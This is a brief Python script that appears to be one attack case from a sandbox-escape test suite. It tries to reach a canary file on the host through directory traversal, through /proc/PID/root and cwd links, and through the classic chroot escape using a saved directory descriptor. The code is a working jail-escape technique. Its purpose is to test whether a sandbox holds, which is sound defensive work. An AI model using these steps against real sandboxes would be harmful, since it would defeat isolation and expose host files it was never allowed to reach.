"""Climbs out of its root: by `..`, through /proc/PID/root and cwd, and by changing its root."""

import contextlib
import os

from attacker import got, host, steal, tried

UNPROTECTED = "escapes"

canary = host["canary"]
tried(canary)
steal("../" * 32 + canary.lstrip("/"))
for pid in ("1", "self", "thread-self", str(os.getppid()), str(host["server"])):
    for link in ("root", "cwd", "task/1/root"):
        steal(f"/proc/{pid}/{link}/{'../' * 16}{canary.lstrip('/')}")
os.makedirs("cage", exist_ok=True)
outside = os.open(".", os.O_RDONLY)
with contextlib.suppress(OSError):
    os.chroot("cage")
    got("chroot")
    os.fchdir(outside)
    for _ in range(32):
        os.chdir("..")
    os.chroot(".")
    steal(canary)
